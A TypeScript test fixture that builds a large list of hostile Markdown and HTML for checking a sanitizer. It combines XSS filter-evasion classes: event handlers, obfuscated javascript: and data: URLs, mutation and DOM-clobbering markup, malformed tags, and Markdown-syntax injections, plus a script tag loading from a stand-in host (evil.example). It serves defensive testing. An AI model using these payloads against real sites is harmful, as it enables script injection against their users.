/**
 * Script in the hostile Markdown below, which combines the classes of OWASP's filter evasion (handlers, protocols,
 * obfuscation, malformed tags, foreign content, mutation on reparsing, Markdown's own syntax). Every script contains
 * `MARK`, so it must never appear where it could run.
 */
export const MARK = 'pwned()'

const handlers =
  'onerror onload onclick onmouseover onfocus ontoggle onanimationstart onbegin onpointerrawupdate oncut onbeforetoggle oncontentvisibilityautostatechange'.split(
    ' ',
  )
const elements =
  'img svg body video audio iframe details input object embed marquee form a p div table td style link base meta math isindex keygen select textarea button x-own'.split(
    ' ',
  )
const attributeForms: readonly ((name: string) => string)[] = [
  (name) => ` ${name}=${MARK}`,
  (name) => ` ${name.toUpperCase()}="${MARK}"`,
  (name) => `/${name}='${MARK}'`,
  (name) => `\n${name}\t=\n${MARK}`,
  (name) => ` src=x "${name}="${MARK}"`,
  (name) => ` class="a"${name}=${MARK}`,
  (name) => `\f${name}=${MARK} autofocus tabindex=1 open`,
]
const schemes = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  ` javascript:${MARK}`,
  `\u0001javascript:${MARK}`,
  `java\tscript:${MARK}`,
  `java\nscript:${MARK}`,
  `java&#10;script:${MARK}`,
  `&#106;avascript:${MARK}`,
  `&#x6A&#x61vascript:${MARK}`,
  `javascript&colon;${MARK}`,
  `java&Tab;script&colon;${MARK}`,
  `java%0ascript:${MARK}`,
  `vbscript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${MARK}>`,
  `DATA:text/html;,${MARK}`,
  `blob:${MARK}`,
  `filesystem:${MARK}`,
  `view-source:javascript:${MARK}`,
  `feed:javascript:${MARK}`,
  `jar:javascript:${MARK}`,
  `javascript://words.example/%0a${MARK}`,
  `https:javascript:${MARK}`,
  `\u2028javascript:${MARK}`,
  `ｊavascript:${MARK}`,
]
const urlPlaces: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}' target=_self ping='${url}'>x</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x" lowsrc="${url}" usemap="${url}">`,
  (url) => `<svg><a xlink:href="${url}" href="${url}"><text>x</text></a><use href="${url}"/></svg>`,
  (url) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
  (url) =>
    `<iframe src="${url}" srcdoc="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
  (url) =>
    `<base href="${url}"><link rel=stylesheet href="${url}"><meta http-equiv=refresh content="0;${url}">`,
  (url) => `<math href="${url}" xlink:href="${url}"><mtext>x</mtext></math>`,
  (url) => `<p style="background:url(${url})" background="${url}" cite="${url}">x</p>`,
  (url) => `<table background="${url}"><td background="${url}">x</table>`,
  (url) => `[x](<${url}>)`,
  (url) => `[x](${url})`,
  (url) => `![x](${url} "${url}")`,
  (url) => `<${url}>`,
  (url) => `[x]\n\n[x]: ${url} 'title'`,
]
const script = `<script>${MARK}</script>`
const image = `<img src=x onerror=${MARK}>`
const rawTextTags =
  'style script noscript noframes noembed xmp iframe title textarea template plaintext'.split(' ')
const foreign = [
  'svg',
  'math',
  'svg><desc',
  'svg><foreignobject',
  'svg><title',
  'math><mtext',
  'math><mi',
  'math><annotation-xml',
]

const nested = foreign.flatMap((outer) =>
  rawTextTags.flatMap((inner) => [
    `<${outer}><${inner}>${image}`,
    `<${outer}></p><${inner}><!--</${inner}>${image}-->`,
    `<${outer}><${inner}><a title="</${inner}>${image}">`,
  ]),
)

const mutations = [
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<math><mtext><table><mglyph><style><!--</style>${image}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
  `<noscript><p title="</noscript>${image}">`,
  `<textarea><p title="</textarea>${image}">`,
  `<div><table><caption><svg><title><table><tr><td>${image}`,
  `<b><p><b><table><a><table><a href="javascript:${MARK}">`,
  `<a><table><td><a><style><!--</style>${image}`,
  `<p><button><p><object><p>${image}`,
  `<frameset onload=${MARK}><frame src="javascript:${MARK}"></frameset>`,
  `</body></html><body onload=${MARK}>${script}`,
  `<html onmouseover=${MARK}><head>${script}</head>`,
  `<form id=x><input name=attributes><input name=parentNode><img name=removeChild src=x onerror=${MARK}></form>`,
  `<form><input name=nodeName><input name=childNodes></form>${image}`,
  `<img name=getElementById><img id=implementation src=x onerror=${MARK}>`,
  `<x-a><template shadowrootmode=open>${script}</template></x-a>`,
  `<p is=x-own onclick=${MARK}>x`,
]

const malformed = [
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<<script>${MARK}//<</script>`,
  `<script/xss src=//evil.example/x.js></script>`,
  `<script\n>${MARK}</script\n>`,
  `<SCRIPT>${MARK}</SCRIPT >`,
  `<script>${MARK}`,
  `<img """>${script}">`,
  `<img src=\`x\`onerror=${MARK}>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=${MARK}>`,
  `<a href="x"onclick="${MARK}">x</a>`,
  `<a =">" onclick=${MARK}>x</a>`,
  `<!--><img src=x onerror=${MARK}>-->`,
  `<!--!>${image}-->`,
  `<!-- --!>${image}`,
  `<![CDATA[${image}]]>`,
  `<?xml-stylesheet href="javascript:${MARK}"?>${image}`,
  `<!DOCTYPE x [<!ENTITY y "${script}">]>&y;`,
  `<% ${image} %>`,
  `</ ${image}>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;${script}`,
  `\u00abscript\u00bb${MARK}\u00ab/script\u00bb`,
  `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
]

const markdown = [
  `[x](https://words.example" onclick="${MARK})`,
  `[x](/a "t" onclick=${MARK})`,
  `[<img src=x onerror=${MARK}>](/a)`,
  `![" onerror="${MARK}](https://example.org/a.png)`,
  `![x](https://example.org/"onerror="${MARK})`,
  `![x](https://example.org/a.png 'onerror="${MARK}"')`,
  `\`\`\`html onmouseover=${MARK}\n${script}\n\`\`\``,
  `\`\`\`"><img src=x onerror=${MARK}>\nx\n\`\`\``,
  `\`${script}\``,
  `    ${script}`,
  `> ${script}\n> ${image}`,
  `| a |\n|---|\n| ${image} |\n| <td onclick=${MARK}> |`,
  `# ${image}`,
  `1. <li onclick=${MARK}>${script}`,
  `http://evil.example/"onmouseover="${MARK}`,
  `https://words.example/?"onmouseover="${MARK}`,
  `<https://words.example/" onclick="${MARK}>`,
  `*a<b onclick=${MARK}>*c</b>`,
  `&#x3C;img src=x onerror=${MARK}&#x3E;`,
  `\\<img src=x onerror=${MARK}\\>`,
  `<span class="bold" onclick=${MARK}>x</span><span style="font-weight:700;x:expression(${MARK})">y</span>`,
]

export const hostileMarkdown: readonly string[] = [
  ...handlers.flatMap((handler) => attributeForms.map((form) => `<img src=x${form(handler)}>`)),
  ...elements.flatMap((element) =>
    attributeForms.map((form, index) => `<${element}${form(handlers[index]!)}>x</${element}>`),
  ),
  ...schemes.flatMap((url) => urlPlaces.map((place) => place(url))),
  ...rawTextTags.flatMap((tag) => [
    `<${tag}>${image}</${tag}>`,
    `<${tag}><p title="</${tag}>${image}">`,
    `<${tag} onload=${MARK}>${script}`,
  ]),
  ...nested,
  ...mutations,
  ...malformed,
  ...markdown,
]

/** Hostile HTML as pasted: active elements, foreign content, and markup that changes its meaning when parsed again. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<style>p{color:red}</style>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><base href="https://x.test"><meta http-equiv="refresh" content="0">',
  '<template><img src=x onerror=alert(1)></template>',
  '<form><input name="attributes"><input name="nodeName"></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<img src="https://x.test/a.png" onerror="alert(1)"',
]
